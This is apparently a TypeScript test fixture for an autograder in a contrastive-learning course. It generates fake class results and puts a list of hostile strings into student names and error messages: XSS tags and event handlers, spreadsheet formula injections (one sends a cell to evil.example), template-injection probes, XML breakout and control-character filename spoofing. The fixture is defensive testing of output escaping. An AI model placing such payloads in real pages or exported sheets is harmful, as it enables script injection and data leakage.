import { uniforms } from '../../../lib';
import type { ClassMarks, ExerciseMark, Remark, SubmissionMark } from '../../../grading/marks';

const COURSE = [
  ['01-cosine-similarity', 'cosineSimilarity', 2, ['not-normalised', 'wrong-axis']],
  ['01-cosine-similarity', 'cosineSimilarityMatrix', 2, ['transposed']],
  ['02-dcl-loss', 'dclLoss', 3, ['positive-in-denominator', 'sum-of-two-logs']],
  ['04-simclr-nt-xent', 'ntXent', 4, ['keeps-self', 'one-direction', 'temperature-multiplied']],
  ['05-positives-only-collapse', 'collapseMonitor', 2, ['variance-for-std']],
] as const;

/** Texts that a student might return in the hope that somebody's program runs them. */
export const HOSTILE = [
  '<script>window.pwned = 1</script>',
  '"><img src=x onerror="window.pwned = 1">',
  "' onmouseover='window.pwned = 1",
  '=HYPERLINK("http://evil.example/"&A1)',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  ']]></failure><error/>',
  '&lt;b&gt; &amp; {{7*7}} ${7*7}',
  'a\u0000b\u0007\ufffe\ud800c\u202Etxt.exe',
  'line one\nline,two;"three"',
] as const;

const BASE = { seed: 7, seconds: 0.4, remarks: [] };

/** A judged exercise that failed in the given words. */
export const failed = (
  [notebook, exercise, outOf]: readonly [string, string, number],
  said: { seen: string; look: string; misconception?: string },
  remarks: readonly Remark[] = [],
): ExerciseMark => ({
  ...BASE,
  kind: 'judged',
  exercise,
  notebook,
  points: 0,
  outOf,
  remarks,
  tried: TRIED,
  verdict: {
    kind: 'fail',
    exercise,
    seed: 7,
    points: 0,
    outOf,
    tried: TRIED,
    fault: 'values',
    ...said,
    ...SHOWN,
  },
});

const TRIED = { publicRight: 2, publicCount: 6, hiddenCount: 3 };
const SHOWN = {
  on: [{ name: 'z1', shape: [2, 2], rows: [['1', '0'], ['0', '1']] }], // prettier-ignore
  got: { name: 'your answer', shape: [2], rows: [['0.5', 'NaN']] },
};

/** A class in which everything happens, always the same for the same count. */
export function fakeClass(count: number): ClassMarks {
  const random = uniforms(3);
  const submissions = Array.from({ length: count }, (_, i): SubmissionMark => {
    const skill = random();
    const student = i < HOSTILE.length ? HOSTILE[i]! : `Student ${i}`;
    const exercises = COURSE.map(([notebook, exercise, outOf, mistakes]): ExerciseMark => {
      const place = [notebook, exercise, outOf] as const;
      const shared = { ...BASE, exercise, notebook, outOf, points: 0 };
      const draw = random();
      if (draw < 0.5 + skill / 2) {
        const tried = { ...TRIED, publicRight: 6 };
        const judged = { exercise, seed: 7, points: outOf, outOf, tried };
        const verdict = { ...judged, kind: 'pass', notes: [] } as const;
        return { ...shared, kind: 'judged', points: outOf, tried, verdict };
      }
      if (draw > 0.97) return { ...shared, kind: 'missing' };
      if (draw > 0.92) {
        const says = 'The code ran for more than 10 s of processor time and was stopped.';
        return {
          ...shared,
          kind: 'contained',
          remarks: [{ name: 'time', says, cell: 4, line: 2 }],
        };
      }
      const hostile = HOSTILE[i % HOSTILE.length]!;
      const misconception = mistakes[Math.floor(random() * (mistakes.length + 0.5))];
      const seen = `Your function threw: ${hostile}`;
      const look = 'Divide by the lengths: `sum(1)` alone is a dot product.';
      return failed(place, { seen, look, ...(misconception ? { misconception } : {}) });
    });
    return {
      student,
      files: [{ path: `${student}/work.ipynb`, sha256: 'ab'.repeat(32) }],
      exercises,
      points: exercises.reduce((sum, { points }) => sum + points, 0),
      outOf: 13,
      remarks: i % 9 === 4 ? [{ name: 'truncated', says: `${student}: ends in the middle.` }] : [],
      seconds: 3.25,
      isolation: 'bubblewrap',
    };
  });
  return { seed: 42, versions: { node: '20.20.2', '@tensorflow/tfjs': '4.22.0' }, submissions };
}
